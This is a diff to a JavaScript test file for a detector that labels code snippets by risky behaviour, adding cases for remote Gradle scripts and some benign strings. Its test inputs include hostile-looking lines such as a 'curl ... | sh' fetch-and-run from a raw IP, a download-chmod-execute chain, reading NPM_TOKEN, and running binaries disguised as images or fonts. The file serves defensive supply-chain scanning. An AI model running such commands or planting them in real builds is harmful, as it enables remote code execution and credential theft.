@@ -26,6 +26,8 @@ describe('readBehaviors', () => {
     expect(kinds('system("curl -sL https://example.com/tool -o /tmp/tool && chmod +x /tmp/tool && /tmp/tool")', 'ruby')).toEqual(['download', 'execute']);
     expect(kinds("tasks.register<Exec>(\"fetch\") { commandLine(\"sh\", \"-c\", \"curl http://203.0.113.9/x | sh\") }", 'java')).toEqual(['download', 'execute', 'suspicious-host']);
     expect(kinds('<get src="https://example.com/agent.jar" dest="target/agent.jar"/>', 'xml')).toEqual(['download']);
+    expect(kinds("apply from: 'https://raw.githubusercontent.com/someone/gradle-scripts/main/common.gradle'", 'java')).toEqual(['download', 'execute']);
+    expect(kinds("apply(from = \"gradle/common.gradle.kts\")", 'java')).toEqual([]);
     expect(kinds('const token = process.env.NPM_TOKEN;', 'js')).toEqual(['credential-env']);
     expect(kinds('subprocess.Popen(["./assets/logo.png", "--daemon"])', 'python')).toEqual(['disguised-binary', 'execute']);
     expect(kinds('chmod +x fonts/roboto.woff2', 'shell')).toEqual(['disguised-binary', 'execute']);
@@ -38,6 +40,8 @@ describe('readBehaviors', () => {
     expect(kinds('subprocess.run(["convert", "icon.png", "icon.ico"], check=True)', 'python')).toEqual(['execute']);
     expect(kinds('os.environ["CFLAGS"] = "-O2"', 'python')).toEqual([]);
     expect(kinds('chmod 644 README.md', 'shell')).toEqual([]);
+    expect(kinds('  s.description = "A curl-like HTTP client; wget compatible"', 'ruby')).toEqual([]);
+    expect(kinds('version = file("version.txt").readText().trim()', 'java')).toEqual([]);
   });
 
   it('names the files an npm install script runs, beside its package.json', () => {
